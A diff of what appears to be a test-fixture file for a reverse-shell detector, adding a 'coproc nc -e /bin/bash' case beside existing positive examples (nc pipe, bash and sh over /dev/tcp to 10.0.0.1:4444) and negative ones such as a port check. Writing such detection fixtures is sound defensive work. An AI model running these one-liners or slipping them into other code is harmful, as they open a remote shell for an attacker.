@@ -24,6 +24,8 @@ cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
 bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 #@ pos sh with stdin from /dev/tcp
 sh < /dev/tcp/10.0.0.1/4444
+#@ pos nc -e as a coprocess
+coproc nc -e /bin/bash 10.0.0.1 4444
 #@ neg nc checking a port
 nc -zv example.com 443
 #@ neg nc sending a file
